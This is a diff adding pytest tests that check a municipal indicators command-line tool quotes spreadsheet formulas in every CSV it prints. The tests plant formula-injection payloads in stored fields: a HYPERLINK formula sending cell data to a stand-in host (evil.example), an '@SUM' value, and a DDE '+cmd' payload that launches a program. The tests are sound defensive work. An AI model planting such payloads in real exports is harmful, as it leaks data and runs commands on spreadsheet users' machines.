@@ -115,3 +115,50 @@ def test_init_empty_has_only_the_seed_then_demo_remove(tmp_path):
     res = run("show", "funded_projects", "--period", "all", "--format", "csv", db=demo)
     assert [r["value"] for r in rows(res.stdout)] == ["63"]
     assert run("show", "gdp", db=demo).returncode == 1
+
+
+# Text a spreadsheet would run, planted where each CSV-printing command prints stored text:
+# a figure's source and note (show, history), who loaded it (reporting status, history), a
+# commitment's evidence (commitments list).
+FORMULA = '=HYPERLINK("http://evil.example/"&A2)'
+EDITOR = "@SUM(1+1)"
+CSV_COMMANDS = {
+    "show": ["show", "energy_per_gdp_change", "--street", "虹桥", "--year", "2025"],
+    "reporting status": ["reporting", "status", "--year", "2025", "--period", "Q3"],
+    "commitments list": ["commitments", "list"],
+    "history": ["history"],
+}
+
+
+@pytest.fixture
+def planted(work_db):
+    from indicators.intake import checks, files, loading
+    from tests.intake_files import csv_bytes, load_rows
+
+    load_rows(
+        [
+            ["街镇", "年份", "期间", "指标", "数值", "来源", "备注"],
+            ["虹桥街道", 2025, "Y", "energy_per_gdp_change", -3.2, FORMULA, "+cmd|' /C calc'!A0"],
+            ["虹桥街道", 2025, "Q3", "gdp", 3100000, FORMULA, ""],
+        ],
+        editor=EDITOR,
+    )
+    data = csv_bytes([["事项编号", "责任街镇", "承诺事项", "进展状态", "佐证材料"],
+                      ["C08", "虹桥", "打造虹桥下午茶", "推进中", FORMULA]])  # fmt: skip
+    checked = checks.check(files.read_upload(data, "c.csv", kind="commitments"))
+    loading.load(checked, editor="hq", file_name="c.csv", data=data, replace=True)
+    return work_db
+
+
+@pytest.mark.parametrize("command", CSV_COMMANDS)
+def test_every_csv_the_command_line_prints_quotes_formulas_and_keeps_numbers(planted, command):
+    res = run(*CSV_COMMANDS[command], "--format", "csv", db=planted)
+    assert res.returncode == 0, res.stderr
+    cells = [v for row in csv.reader(io.StringIO(res.stdout)) for v in row]
+    from indicators import formulas
+
+    assert not [v for v in cells if formulas.is_formula(v)]  # nothing Excel would run
+    assert {"'" + FORMULA, "'" + EDITOR} & set(cells)  # the planted text, quoted
+    if command == "show":
+        (row,) = rows(res.stdout)
+        assert row["value"] == "-3.2" and row["source"] == "'" + FORMULA  # a number as it is
